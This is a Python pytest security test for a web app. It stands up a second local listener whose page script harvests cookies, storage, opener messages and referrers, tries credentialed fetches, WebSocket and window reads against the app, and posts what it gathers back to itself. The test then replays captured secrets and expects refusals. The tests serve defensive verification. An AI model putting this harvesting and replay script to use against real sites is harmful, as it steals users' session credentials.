"""Another program that listens on this machine: a browser takes it for the same site, and still it gets nothing.

A browser sends the cookies of 127.0.0.1 to each of its ports. So a listener on another port is visited by a browser
that was let in, and whatever it is told is tried on every path of the page.
"""

import json
import re
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from zipfile import ZipFile

import httpx
import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from page_cases import give, people, visiting
from shoal.web.pages.frame import STEPS

API = "/api/v1"
WAYS = [("X-Shoal-Key", "{}"), ("Authorization", "Bearer {}")]
"""The headers in which the page and pipelines send a secret."""

LOOKS = """<!doctype html><title>another</title><script>
const told = {cookie: document.cookie, referrer: document.referrer, name: window.name, opener: String(window.opener),
  kept: JSON.stringify({...localStorage, ...sessionStorage}), messages: [], state: JSON.stringify(history.state)};
addEventListener("message", (event) => told.messages.push(JSON.stringify(event.data)));
try { opener && opener.postMessage("who are you", "*"); } catch (error) { told.messages.push(String(error)); }
const tries = location.hash ? decodeURIComponent(location.hash.slice(1)) : "";
const attempt = async () => {
  if (!tries) return;
  for (const path of ["/", "/api/v1/jobs", "/alive"])
    for (const mode of ["cors", "no-cors"])
      try { told[mode + path] = await (await fetch(tries + path, {mode, credentials: "include"})).text(); } catch { }
  await new Promise((done) => {
    const socket = new WebSocket(tries.replace("http", "ws") + "/_nicegui_ws/socket.io/?EIO=4&transport=websocket");
    socket.onmessage = (event) => { told.socket = event.data; done(); };
    socket.onerror = done;
  });
  const opened = window.open(tries, "page");
  for (let blank = true; opened && !opened.closed && blank;) {  // a new window is empty until its page comes
    await new Promise((done) => setTimeout(done, 50));
    try {
      blank = opened.location.href === "about:blank";
      if (!blank) told.inside = opened.document.documentElement.outerHTML;
    } catch { blank = false; }
  }
};
const tell = () => fetch("/told", {method: "POST", body: JSON.stringify(told)});
attempt().then(tell).then(() => { document.title = "told"; });
</script>"""


@dataclass
class Another:
    """A program that listens on another port, and all that browsers have told it."""

    url: str
    came: list = field(default_factory=list)
    told: list = field(default_factory=list)

    def words(self):
        """Whatever might be a secret, in everything that came."""
        values = [value for headers in self.came for value in headers.values()]
        said = json.dumps([values, self.told])
        return sorted(set(re.findall(r"[\w~-]{32,}", said)))


@contextmanager
def another():
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            found.came.append({**self.headers, ":path": self.path})
            self._send(LOOKS.encode())

        def do_POST(self):
            found.told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._send(b"")

        def _send(self, body):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found = Another(f"http://127.0.0.1:{server.server_port}")
        Thread(target=server.serve_forever, daemon=True).start()
        yield found
        server.shutdown()


def visit(page, url, **attributes):
    """Follow a link that stands on a page, with one click."""
    page.evaluate(
        """([url, attributes]) => {
            const link = document.createElement("a");
            Object.assign(link, {href: url, textContent: "another page", ...attributes});
            link.style = "position: fixed; top: 0; left: 0; z-index: 9999";
            document.body.append(link);
        }""",
        [url, attributes],
    )
    page.get_by_text("another page").click()


def every_path(site, project, loaded):
    """Each path of the page and of the interface with how it is asked, as somebody may know them who knows all ids."""
    bearer = {"Authorization": f"Bearer {site.bearer}"}
    jobs = httpx.get(f"{site.url}{API}/jobs", headers=bearer).json()
    uploads = httpx.get(f"{site.url}{API}/uploads", headers=bearer).json()
    described = httpx.get(f"{site.url}{API}/openapi.json", headers=bearer).json()
    ids = [jobs[-1]["id"], uploads[-1]["id"]]
    for path, methods in described["paths"].items():
        for method in methods:
            for number in ids if "{number}" in path else ids[:1]:
                yield method.upper(), f"{API}{path.replace('{number}', number).replace('{name}', 'a.csv')}"
    yield "GET", f"{API}/openapi.json"
    for path in ("/", "/alive", "/favicon.ico", "/nothing", *(f"{project}/{step}" for step in STEPS)):
        yield "GET", path
    for path in ("/token", "/ticket"):
        yield "POST", path
    for path in loaded:
        yield "GET", path
    for method in ("GET", "POST"):
        yield method, "/_nicegui_ws/socket.io/?EIO=4&transport=polling"


def socket(url, headers):
    try:
        with connect(url, additional_headers=headers) as found:
            return found.recv()
    except InvalidStatus as refused:
        return refused.response.status_code


def replayed(site, paths, cookie, words):
    """What is answered to whoever sends what another program was told, in every way that a secret can be sent."""
    ways = [{"Cookie": cookie}]
    ways += [{"Cookie": cookie, name: form.format(word)} for word in words for name, form in WAYS]
    with httpx.Client(base_url=site.url, headers={"Origin": site.url, "Accept": "text/html"}) as client:
        for method, path in paths:
            for way in ways:
                got = client.request(method, path, headers=way)
                yield method, path, got.status_code
            for word in words:
                joined = "&" if "?" in path else "?"
                got = client.request(method, f"{path}{joined}ticket={word}", headers=ways[0])
                yield method, path, got.status_code
                yield method, path, client.request(method, f"/{word}{path}", headers=ways[0]).status_code
    ask = "/_nicegui_ws/socket.io/?EIO=4&transport=websocket"
    for way in ways:
        yield "WS", ask, socket(site.url.replace("http", "ws") + ask, {"Origin": site.url, **way})


def test_what_another_port_is_told_opens_nothing_and_the_page_still_works(site, tmp_path):
    """From a file to the private zip, with a click to another program of this machine in between."""
    with another() as other, visiting(site) as page:
        home = give(page, people(tmp_path))
        project = home.removeprefix(site.url)
        page.goto(f"{home}/run")
        page.get_by_role("button", name="Make the release").click()
        page.get_by_role("link", name="See the result").click()
        page.get_by_text("Judged: the claim is kept").wait_for()
        loaded = page.evaluate("performance.getEntriesByType('resource').map((one) => one.name)")
        loaded = sorted({re.sub(r"^.*?(?=/_nicegui)", "", one) for one in loaded if "/_nicegui/" in one})
        assert len(loaded) > 5

        curious = site.context.new_page()
        curious.goto(f"{home}/result")
        curious.get_by_text("Judged: the claim is kept").wait_for()
        visit(curious, f"{other.url}/from-the-page")
        curious.wait_for_function("document.title === 'told'")
        curious.go_back()
        curious.get_by_text("Judged: the claim is kept").wait_for()
        with site.context.expect_page() as opened:
            visit(curious, f"{other.url}/with-opener#{site.url}", target="_blank", rel="opener")
        opened.value.wait_for_function("document.title === 'told'")

        fetched = {}
        for name in ("The certificate", "The audit"):
            with page.expect_download() as coming:
                page.get_by_role("link", name=name).click()
            fetched[name] = coming.value
        assert "<html" in fetched["The certificate"].path().read_text()
        with ZipFile(fetched["The audit"].path()) as parcel:
            assert any(name.endswith("audit.html") for name in parcel.namelist())

        assert len(other.told) == 2
        cookies = [headers["Cookie"] for headers in other.came if "Cookie" in headers]
        paths = [*every_path(site, project, loaded)]
        answers = [*replayed(site, paths, "; ".join(cookies), other.words())]
        assert len(answers) > 50
        assert {(path, status) for _, path, status in answers if status not in (401, 403)} == set()

        for visitor in other.told:
            assert visitor["opener"] == "null"
            assert visitor["state"] == "null"
            assert visitor["kept"] == "{}"
            assert not visitor["referrer"]
            assert not visitor["name"]
            assert not visitor["messages"]
            assert not visitor["cookie"]
            assert {name for name in visitor if name.startswith(("cors", "socket", "inside"))} == set()
            assert not any(visitor.get(f"no-cors{path}") for path in ("/", "/api/v1/jobs", "/alive"))
        assert not cookies
        assert not any(site.url in value for headers in other.came for value in headers.values())
        for one in fetched.values():
            assert httpx.get(one.url).status_code == 401  # its ticket is used up


def test_addresses_keep_no_secret(site, listening):
    """Neither the token nor a ticket stays where a history, a bookmark or somebody behind would see it."""
    context = site.browser.new_context(storage_state=listening.state)
    page = context.new_page()
    went = []
    page.on("framenavigated", lambda frame: went.append(frame.url))
    page.goto(listening.address)  # used up by now: a second tab with the printed address
    page.get_by_role("heading", name="What do you want to publish?").wait_for()
    assert page.url == f"{site.url}/"
    assert page.evaluate("history.length") == 2  # the empty page that a browser begins with, and this one
    used = [url for url in went if "ticket=" in url]
    assert used
    for url in used:
        assert httpx.get(url).status_code == 401
    page.reload()
    page.get_by_role("heading", name="What do you want to publish?").wait_for()
    assert page.url == f"{site.url}/"
    assert not context.cookies()
    context.close()


@pytest.mark.parametrize("path", ["/", "/project/0/data"])
def test_a_ticket_that_was_used_is_told_and_not_tried_for_ever(site, path):
    page = site.context.new_page()
    page.goto(f"{site.url}{path}?ticket=used")
    page.get_by_text("This did not work. Load this page again.").wait_for()
    assert page.url == f"{site.url}{path}"
    page.reload()
    page.get_by_role(
        "heading", level=1, name=re.compile("What do you want|This session has ended")
    ).wait_for()
    page.close()
